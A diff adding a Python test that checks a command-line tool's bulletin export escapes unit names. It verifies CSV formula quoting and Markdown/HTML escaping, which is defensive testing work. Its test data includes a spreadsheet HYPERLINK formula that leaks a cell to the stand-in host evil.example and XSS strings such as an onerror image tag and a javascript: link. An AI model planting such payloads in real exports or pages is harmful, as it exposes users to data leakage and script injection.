@@ -276,5 +276,33 @@ def test_cluectl(c):
                         "--to", time.strftime("%Y-%m-%d", time.gmtime(now + 86400)), env=env, check=0)
 
 
+def test_cluectl_names_are_text(c):
+    """Unit names that a spreadsheet would run (= + - @ first) get a leading quote in --csv;
+    in --markdown, HTML and Markdown in a name are escaped so it reads as written (no image,
+    no javascript: link, no emphasis, no extra cell). Adds units: runs last."""
+    w = c.w
+    env = {"CLUED_SERVER": c.srv.addr, "CLUED_TOKEN": w.auditor.token}
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+    markup = r"伪造 | 9 <img src=x onerror=alert(1)> [点我](javascript:alert(1)) **粗** `码` _i_ #h !x ~s~ a & b \ c"
+    escaped = (r"伪造 \| 9 &lt;img src=x onerror=alert\(1\)&gt; \[点我\]\(javascript:alert\(1\)\) "
+               r"\*\*粗\*\* \`码\` \_i\_ \#h \!x \~s\~ a &amp; b \\ c")
+    ids = {}
+    for code, name in (("FQ1", formula), ("FQ2", "-2+3"), ("MQ1", markup)):
+        ids[code] = w.admin.admin.CreateUnit(S.admin_pb2.CreateUnitRequest(
+            kind=cm.UNIT_KIND_REGION, code=code, name=name), timeout=10).id
+    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--csv", env=env, check=0)
+    by = {x["unit_code"]: x for x in csv.DictReader(io.StringIO(r.stdout))}
+    assert by["FQ1"]["unit_name"] == "'" + formula and by["FQ2"]["unit_name"] == "'-2+3", by["FQ1"]
+    assert by["MQ1"]["unit_name"] == markup and by["G1"]["unit_name"] == "group G1", by["MQ1"]
+    assert by["FQ1"]["month"] == c.month and by["FQ1"]["unit_id"] == str(ids["FQ1"]), by["FQ1"]
+    assert by["FQ1"]["received"] == "0" and by["FQ1"]["zero_disposal"] == "true", by["FQ1"]
+    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--markdown", env=env, check=0)
+    row = [ln for ln in r.stdout.splitlines() if "(MQ1)" in ln]
+    assert row == [f"| {escaped} (MQ1) | 0 | 0 |" + " 0 |" * 12 + " **是** |"], row
+    assert f"- {escaped}，连续 1 个月" in r.stdout.splitlines(), r.stdout
+    assert "<img" not in r.stdout and "](javascript" not in r.stdout, r.stdout
+    assert r'| =HYPERLINK\("http://evil.example/?leak="&amp;A1,"点击查看"\) (FQ1) |' in r.stdout, r.stdout
+
+
 if __name__ == "__main__":
     harness.run_tests(dict(globals()), setup, teardown)
